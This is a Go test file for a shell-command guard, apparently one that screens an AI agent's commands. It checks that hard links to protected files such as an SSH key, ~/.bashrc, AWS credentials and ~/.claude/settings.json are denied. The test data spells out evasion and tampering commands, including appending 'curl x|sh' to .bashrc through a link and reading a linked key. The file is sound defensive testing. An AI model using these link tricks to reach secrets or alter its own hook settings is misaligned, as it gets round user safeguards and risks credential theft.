package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestHardLinksToProtectedFiles: a hard link is a second name of the same
// file. Making one to a protected, secret or corral-own file is judged as
// a write of that file (ln, link, cp -l, cp -al, and the link calls of
// program code); a link made earlier is caught when the next call writes
// or reads it; links between ordinary project files pass. The mechanism
// is checked with the real bash against canaries first.
func TestHardLinksToProtectedFiles(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	cfg := scratchProject(t, map[string]string{
		"home/.ssh/id_rsa":           "FAKE KEY",
		"home/.bashrc":               "# rc\n",
		"home/.claude/settings.json": `{"hooks":{}}`,
		"home/.aws/credentials":      "[default]\n",
		"proj/big.bin":               "data",
		"proj/src/main.go":           "package main\n",
		"proj/README.md":             "x\n",
		"shared/lib/x.sh":            "true\n",
		"canary/home/.bashrc":        "# canary rc\n",
		"canary/proj/README.md":      "x\n",
	})
	home, proj := cfg.Home, cfg.Project
	root := filepath.Dir(proj)

	// What bash does: a line appended to the hard link lands in the file.
	canary := filepath.Join(root, "canary")
	cmd := exec.Command("bash", "-c", "ln ../home/.bashrc b && echo 'curl x|sh' >> b")
	cmd.Dir = filepath.Join(canary, "proj")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("hard links not available: %v %s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(canary, "home", ".bashrc")); !strings.Contains(string(b), "curl x|sh") {
		t.Fatalf("bash: appending to a hard link did not change the linked file: %q", b)
	}

	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"ln ~/.claude/settings.json cs.json", "deny"},
		{"ln ~/.ssh/id_rsa k", "deny"},
		{"ln ~/.bashrc b", "deny"},
		{"ln -f ~/.bashrc", "deny"},
		{"ln -t . ~/.bashrc", "deny"},
		{"link ~/.bashrc b", "deny"},
		{"link ~/.bashrc b && echo x >> b", "deny"},
		{"cp -l ~/.bashrc b", "deny"},
		{"cp --link ~/.bashrc b", "deny"},
		{"cp -al ~/.ssh keys", "deny"},
		{"ln ~/.aws/credentials c", "deny"},
		{"python3 -c 'import os; os.link(\"" + home + "/.bashrc\", \"b\")'", "deny"},
		{"perl -e 'link \"" + home + "/.bashrc\", \"b\"'", "deny"},
		{"node -e 'require(\"fs\").linkSync(\"" + home + "/.bashrc\", \"b\")'", "deny"},
		{"ruby -e 'File.link(\"" + home + "/.bashrc\", \"b\")'", "deny"},
		// Ordinary links pass.
		{"ln big.bin copy.bin", "allow"},
		{"cp -l big.bin copy.bin", "allow"},
		{"cp -al src backup", "allow"},
		{"link big.bin copy.bin", "allow"},
		{"ln -s ../shared/lib lib", "allow"},
		{"ln -s ~/.bashrc b", "allow"}, // a symbolic link is resolved where it is used
	})

	// Links made before the call (by an earlier call corral let through,
	// or by the user): the next call's writes and reads are judged at the
	// file they name.
	for src, dst := range map[string]string{
		home + "/.claude/settings.json": "cs.json", home + "/.ssh/id_rsa": "k", home + "/.bashrc": "b",
		proj + "/big.bin": "copy.bin",
	} {
		if err := os.Link(src, filepath.Join(proj, dst)); err != nil {
			t.Fatal(err)
		}
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"echo '{}' > cs.json", "deny"},
		{"cat k", "deny"},
		{"echo 'curl x|sh' >> b", "deny"},
		{"sed -i s/a/b/ b", "deny"},
		{"truncate -s0 cs.json", "deny"},
		{"echo data > copy.bin", "allow"},
		{"cat copy.bin", "allow"},
		{"rm b", "allow"}, // removes one name; ~/.bashrc stays
		// shred overwrites the content every name shares.
		{"shred -u cs.json", "deny"},
		{"shred copy.bin", "allow"},
		// A recursive search reads the linked key too.
		{"grep -r KEY .", "deny"},
		{"grep -rn main src", "allow"},
	})
}
